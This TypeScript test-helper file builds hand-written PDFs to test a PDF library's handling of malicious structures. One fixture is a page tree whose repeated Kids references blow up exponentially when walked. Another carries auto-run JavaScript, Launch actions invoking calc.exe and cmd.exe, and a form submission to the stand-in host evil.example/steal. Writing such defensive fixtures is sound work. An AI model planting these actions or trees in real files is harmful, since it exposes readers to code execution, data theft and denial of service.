import { decodePDFRawStream, PDFDocument, PDFRawStream } from "pdf-lib";

// PDFs written by hand, object by object, for what a PDF library will not write: a page tree that
// reaches a node twice, actions that run when the file opens.

/** A PDF of the given objects (numbered from 1, the first is the catalog), with a correct cross-reference table. */
export function rawPdf(objects: string[]): Buffer {
  let body = "%PDF-1.7\n";
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(Buffer.byteLength(body, "latin1"));
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, "latin1");
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  body += offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, "latin1");
}

/**
 * One page under `levels` nodes of pages, each listing the next one `copies` times in its Kids:
 * with 2 copies, a walk that follows every path visits the page 2^levels times (a few KB of file).
 */
export function aLayeredPageTree(levels: number, copies = 2): Buffer {
  const objects = ["<< /Type /Catalog /Pages 2 0 R >>"];
  for (let level = 0; level < levels; level++) {
    const kid = `${level + 3} 0 R`;
    objects.push(`<< /Type /Pages /Kids [${Array(copies).fill(kid).join(" ")}] /Count ${copies ** (levels - level)} >>`);
  }
  objects.push(`<< /Type /Page /Parent ${levels + 1} 0 R /MediaBox [0 0 200 200] >>`);
  return rawPdf(objects);
}

/**
 * One page with a script run on opening (OpenAction, a JavaScript name tree, the catalog's and the
 * page's AA), a link that launches a program, and a web link whose Next action posts a form.
 */
export function aPdfWithActions(): Buffer {
  return rawPdf([
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript 6 0 R >> /AA << /WC << /S /JavaScript /JS (app.alert\\(2\\)) >> >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [7 0 R 8 0 R] /AA << /O << /S /Launch /F (calc.exe) >> >> >>",
    "<< /S /JavaScript /JS 5 0 R >>",
    "<< /Length 12 >>\nstream\napp.alert(1)\nendstream",
    "<< /Names [(run) << /S /JavaScript /JS (app.alert\\(3\\)) >>] >>",
    "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
    "<< /Type /Annot /Subtype /Link /Rect [100 100 200 200] /A << /S /URI /URI (https://example.org/lesson) /Next << /S /SubmitForm /F (https://evil.example/steal) >> >> >>",
  ]);
}

/** Every object of a PDF as text, streams decoded (object streams are unpacked on load): what a search of the file would find. */
export async function pdfText(bytes: Uint8Array): Promise<string> {
  const document = await PDFDocument.load(bytes, { updateMetadata: false });
  return document.context
    .enumerateIndirectObjects()
    .map(([ref, object]) =>
      object instanceof PDFRawStream
        ? `${ref} ${object.dict.toString()} ${Buffer.from(decodePDFRawStream(object).decode()).toString("latin1")}`
        : `${ref} ${object.toString()}`,
    )
    .join("\n");
}
